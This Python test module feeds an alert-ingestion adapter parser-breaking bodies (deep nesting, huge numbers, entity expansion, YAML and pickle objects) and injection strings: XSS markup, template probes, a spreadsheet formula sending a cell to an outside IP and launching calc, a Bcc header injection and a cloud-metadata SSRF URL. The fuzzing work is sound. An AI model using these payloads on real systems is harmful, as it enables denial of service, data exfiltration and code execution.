"""Bodies from hell, in our own words: what breaks a parser, and what a text may do once somebody shows it."""

import gzip
import json
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime
from typing import Any

from incident.adapters.registry import Adapter
from incident.adapters.signals import SignalState
from incident.adapters.trying import attempt
from tests.expected_signals import Expectation
from tests.payload_changes import asked_of, at, paths, replaced

OPENING = (SignalState.FIRING, SignalState.INFORMATIONAL)
NOW = datetime(2026, 11, 24, 9, tzinfo=UTC)
MIB = 1024 * 1024
ALERT = {"title": "Export bucket is public", "alertname": "ExportPublic", "status": "firing", "key": "bucket-7"}


def of_one_alert(member: str) -> bytes:
    """An alert with one more member, written as it comes."""
    return (json.dumps(ALERT)[:-1] + f", {member}}}").encode()


def entities() -> bytes:
    """XML whose entities double and double; nobody here expands them."""
    lines = "".join(f'<!ENTITY e{n} "&e{n - 1};&e{n - 1};">' for n in range(1, 40))
    return f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e0 "ha">{lines}]><a>&e39;</a>'.encode()


PLAIN = json.dumps(ALERT)
RAW: Mapping[str, bytes] = {
    "lists nested without end": b"[" * 500_000,
    "objects nested without end": b'{"a":' * 100_000,
    "nested and closed again": b'{"a":' * 5_000 + b"1" + b"}" * 5_000,
    "a list of one list of one list": b"[" * 65 + b"]" * 65,
    "deep within a text": of_one_alert(f'"labels": {json.dumps("[" * 100_000)}'),
    "a whole number of 300,000 digits": of_one_alert(f'"id": {"9" * 300_000}'),
    "an exponent without end": of_one_alert('"id": 1e999999999, "severity": -1e999999999'),
    "a fraction without end": of_one_alert(f'"id": 0.{"1" * 200_000}'),
    "NaN": of_one_alert('"id": NaN'),
    "Infinity": of_one_alert('"id": -Infinity'),
    "a name twice": of_one_alert('"status": "resolved"'),
    "a name twice by an escape": of_one_alert('"\\u0073tatus": "resolved"'),
    "a name that is empty": of_one_alert('"": {"": [""]}'),
    "names of objects themselves": of_one_alert('"__proto__": {"a": 1}, "constructor": {"prototype": {}}'),
    "a NUL by an escape": of_one_alert('"asset": "a\\u0000b"'),
    "a NUL as a byte": of_one_alert('"asset": "a\x00b"'),
    "half a surrogate by an escape": of_one_alert('"asset": "\\ud800"'),
    "the other half in a name": of_one_alert('"\\udfff": 1'),
    "a surrogate as bytes": PLAIN.encode()[:-1] + b', "asset": "\xed\xa0\x80"}',
    "an overlong slash": PLAIN.encode()[:-1] + b', "asset": "\xc0\xaf"}',
    "Latin-1": PLAIN.encode()[:-1] + b', "asset": "\xe9\xff"}',
    "UTF-8 with its mark": b"\xef\xbb\xbf" + PLAIN.encode(),
    "UTF-8 with its mark twice": b"\xef\xbb\xbf" * 2 + PLAIN.encode(),
    "UTF-16 with its mark": PLAIN.encode("utf-16"),
    "UTF-16 little": PLAIN.encode("utf-16-le"),
    "UTF-16 big": PLAIN.encode("utf-16-be"),
    "UTF-32 with its mark": PLAIN.encode("utf-32"),
    "UTF-7": b"+AHsAfQ-",
    "nothing": b"",
    "white space": b" \r\n\t " * 10_000,
    "a list of nothing": b"[]",
    "an object of nothing": b"{}",
    "null": b"null",
    "true": b"true",
    "a number": b"-0.0",
    "a text": b'"Export bucket is public"',
    "a list of everything": b'[null, true, 1, "x", [], {}, [{}], {"a": null}]',
    "a text without end": b'{"title": "' + b"\\" * 200_001,
    "an escape that breaks off": b'{"title": "\\u12',
    "more after the end": PLAIN.encode() + b"}]",
    "another document behind": PLAIN.encode() * 2,
    "lines of JSON": (PLAIN + "\n" + PLAIN).encode() * 200,
    "50,001 values": b"[" + b",".join([b"1"] * 50_001) + b"]",
    "a name of 500,000 letters": json.dumps({**ALERT, "x" * 500_000: 1}).encode(),
    "a title of 200,000 letters": json.dumps({**ALERT, "title": "X\u202e" * 100_000}).encode(),
    "a gzip that says so only by its bytes": gzip.compress(bytes(10 * MIB)),
    "entities that double": entities(),
    "a page": b"<!doctype html><script>alert(1)</script>",
    "a form": b"payload=%7B%22title%22%3A%22x%22%7D&x=1",
    "YAML that would build an object": b"!!python/object/apply:os.system ['id']",
    "a pickle": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00\x8c\x01x\x94.",
    "every byte there is": bytes(range(256)) * 100,
}
MARKUP = "72\"'><script>pwned(1)</script><img src=x onerror=pwned(2)></textarea></title><svg onload=pwned(3)>&lt;"
TEMPLATE = "72 {{ 70 + 2 }} {% for x in y %} ${70+2} <%= 70+2 %> #{70+2} {{ self.__init__.__globals__ }} %s %(x)s {0}"
FORMULA = '=HYPERLINK("http://198.51.100.7/?"&A1,"72")+cmd|\' /C calc\'!A0'
BROKEN_LINE = "72 Leak\r\nBcc: everybody@evil.example\r\n\r\n\u2028X\u202egnp.exe\u2066\x85\x1b[2J\x07"
INTERNAL = "http://169.254.169.254/latest/meta-data/?72#javascript:pwned(4)"
SCRIPT_LINK = "javascript:pwned(5)//72"
MARKS: Mapping[str, str] = {
    "markup": "pwned(1)",
    "template": "70 + 2",
    "formula": "HYPERLINK",
    "line": "everybody@evil.example",
    "internal address": "169.254.169.254",
    "script as a link": "pwned(5)",
}
"""What a reader still sees of each."""
TEXTS: Mapping[str, str] = {
    "markup": MARKUP,
    "template": TEMPLATE,
    "formula": FORMULA,
    "line": BROKEN_LINE,
    "internal address": INTERNAL,
    "script as a link": SCRIPT_LINK,
}


def poisoned(one: Expectation, adapter: Adapter, text: str) -> bytes:
    """The payload with this text in every field that can hold it and still be read as an alert that is not over.

    Every text is made different from all others, as ids are.
    """
    asked = asked_of(one)
    document: Any = json.loads(asked.body)
    for number, place in enumerate(list(paths(document))):
        if isinstance(at(document, place), str):
            body = replaced(document, place, f"{text}{number}")
            signals = attempt(adapter, replace(asked, body=body), (), NOW).signals
            if signals and all(signal.state in OPENING for signal in signals):
                document = json.loads(body)
    return json.dumps(document).encode()
